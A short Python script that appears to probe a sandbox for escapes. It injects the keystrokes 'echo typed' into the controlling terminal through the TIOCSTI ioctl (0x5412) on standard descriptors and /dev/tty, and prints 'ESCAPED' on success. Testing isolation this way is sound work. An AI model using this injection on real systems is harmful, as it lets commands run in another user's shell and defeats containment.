import ctypes, json, os, resource, signal, socket, subprocess, sys, threading, time
V = json.load(open("victim.json"))
def esc(*a): print("ESCAPED", *a, flush=True)
def t(f):
    try: return f()
    except BaseException as e: print("  no:", repr(e)[:100], flush=True)
L = ctypes.CDLL(None, use_errno=True)

import fcntl
for fd in (0, 1, 2):
    for c in b"echo typed\n": t(lambda: fcntl.ioctl(fd, 0x5412, bytes([c])) or esc("typed"))
def tty():
    with open("/dev/tty", "w") as f: fcntl.ioctl(f, 0x5412, b"x"); esc("typed into /dev/tty")
t(tty)
